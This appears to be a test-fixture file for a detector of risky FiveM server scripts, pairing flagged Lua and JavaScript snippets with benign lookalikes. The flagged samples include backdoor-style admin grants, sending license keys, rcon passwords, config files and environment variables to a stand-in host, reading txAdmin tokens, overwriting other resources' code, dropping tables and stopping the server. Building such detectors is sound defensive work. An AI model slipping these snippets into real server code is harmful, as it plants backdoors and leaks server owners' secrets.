import { js, lua, type Fixture } from './fixture.ts'

export const serverFixtures: Fixture[] = [
  lua(
    'grants-rights',
    `local function run(...) ExecuteCommand(table.concat({ ... }, ' ')) end\n^run('add_principal', 'identifier.' .. id, 'group.admin')`,
    `print('add_ace resource.garage command.add_ace allow')\nExecuteCommand('refresh')`,
  ),
  js(
    'writes-code',
    `const { join } = require('path')\n^require('fs').appendFileSync(join(GetResourcePath('chat'), 'fxmanifest.lua'), text)`,
    `const { join } = require('path')\nrequire('fs').writeFileSync(join(GetResourcePath('own'), 'names.json'), text)`,
  ),
  js(
    'writes-other-resource',
    `const path = require('path')\n^require('fs').writeFileSync(path.join(GetResourcePath('chat'), 'names.json'), text)`,
    `const path = require('path')\nrequire('fs').writeFileSync(path.join(__dirname, '..', 'names.json'), text)`,
  ),
  js('process', `^require(nameOf(settings)).exec('id')`, `const found = require('./pattern.js').exec(text)`),
  lua(
    'stops-server',
    `for i = 0, GetNumResources() - 1 do\n^ StopResource(GetResourceByFindIndex(i))\nend`,
    `StopResource(GetCurrentResourceName())`,
  ),
  lua(
    'secret-and-http',
    `local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')\n^PerformHttpRequest('https://a.example', print, 'POST', text)`,
    `local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')\nPerformHttpRequest('https://a.example', print, 'POST', text)`,
  ),
  lua(
    'grants-rights',
    `local owner = 'license:0123456789abcdef'\n^if id == owner then ExecuteCommand(('add_principal identifier.%s group.admin'):format(id)) end`,
    `local owner = 'license:0123456789abcdef'\nif id == owner then ExecuteCommand('refresh') end`,
  ),
  lua(
    'writes-other-resource',
    `^SaveResourceFile('sessionmanager', 'server/host_lock.txt', text, -1)`,
    `SaveResourceFile(GetCurrentResourceName(), 'cache.json', text, -1)`,
  ),
  js(
    'writes-other-resource',
    `const fs = require('fs')\n^fs.writeFileSync(GetResourcePath('monitor') + '/cache.json', text)`,
    `const fs = require('fs')\nfs.writeFileSync('cache.json', text)`,
  ),
  lua(
    'writes-code',
    `^SaveResourceFile(GetCurrentResourceName(), 'fxmanifest.lua', text, -1)`,
    `SaveResourceFile(GetCurrentResourceName(), 'names.json', text, -1)`,
  ),
  js(
    'writes-code',
    `const fs = require('fs')\nonNet('save', (text) => {\n^ fs.writeFileSync('module.js', text)\n})`,
    `const fs = require('fs')\nonNet('save', (text) => { fs.writeFileSync('photo.png', text) })`,
  ),
  lua(
    'grants-rights',
    `^ExecuteCommand('add_principal identifier.license:0123456789abcdef group.admin')`,
    `ExecuteCommand('refresh')`,
  ),
  js(
    'grants-rights',
    `^ExecuteCommand('add_ace builtin.everyone command allow')`,
    `ExecuteCommand('ensure chat')`,
  ),
  lua(
    'txadmin',
    `^local token = GetConvar('txAdmin-luaComToken', '')`,
    `AddEventHandler('txAdmin:events:announcement', announce)`,
  ),
  js('txadmin', `^const headers = { 'X-TxAdmin-Token': token }`, `on('txAdmin:events:playerKicked', log)`),
  lua(
    'secret-and-http',
    `local key = GetConvar('sv_licenseKey', '')\n^PerformHttpRequest('https://a.example?' .. key)`,
    `local key = GetConvar('sv_licenseKey', '')\nprint(#key)`,
  ),
  js(
    'secret-and-http',
    `const key = GetConvar('rcon_password', '')\n^fetch('https://a.example?' + key)`,
    `const locale = GetConvar('locale', 'en')\nfetch('https://a.example?' + locale)`,
  ),
  lua('stops-server', `^os.exit()`, `os.date()`),
  js('stops-server', `^ExecuteCommand('quit')`, `ExecuteCommand('status')`),
  lua(
    'webhook',
    `^local hook = 'https://discord.com/api/webhooks/123456789012345678/abcdef'`,
    `local hook = 'https://discord.com/api/webhooks/your-webhook'`,
    'client',
  ),
  lua('address-host', `^local url = 'http://203.0.113.7/list'`, `local url = 'http://127.0.0.1/list'`),
  js('address-host', `^const url = 'http://203.0.113.7:8080/list'`, `const url = 'http://192.168.0.7/list'`),
  lua(
    'secret-and-http',
    `local key = GetConvar('sv_licenseKey', '')\n^PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { key } }))`,
    `local locale = GetConvar('locale', 'en')\nPerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { locale } }))`,
  ),
  js(
    'secret-and-http',
    `^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ env: process.env }) })`,
    `fetch('https://a.example', { method: 'POST', body: JSON.stringify({ mode: process.env.NODE_ENV }) })`,
  ),
  js(
    'secret-and-http',
    `const request = require('https').request(options)\n^request.end(require('fs').readFileSync('server.cfg'))`,
    `const request = require('https').request(options)\nrequest.end(require('fs').readFileSync('names.json'))`,
  ),
  lua(
    'deletes-data',
    `^MySQL.query('DROP TABLE IF EXISTS ' .. name)`,
    `MySQL.query('ALTER TABLE garages DROP COLUMN job')`,
  ),
  lua(
    'grants-rights',
    `^MySQL.update("UPDATE users SET role = 'superadmin' WHERE identifier = ?", { id })`,
    `MySQL.update('UPDATE users SET role = ? WHERE identifier = ?', { role, id })`,
  ),
  lua(
    'writes-other-resource',
    `for i = 0, GetNumResources() - 1 do\n^ SaveResourceFile(GetResourceByFindIndex(i), 'server.lua', text, -1)\nend`,
    `for i = 0, GetNumResources() - 1 do\n  print(LoadResourceFile(GetResourceByFindIndex(i), 'fxmanifest.lua'))\nend`,
  ),
  js(
    'txadmin',
    `^require('fs').readFileSync('txData/admins.json')`,
    `show('Store it in txData/locale.json.')`,
  ),
]
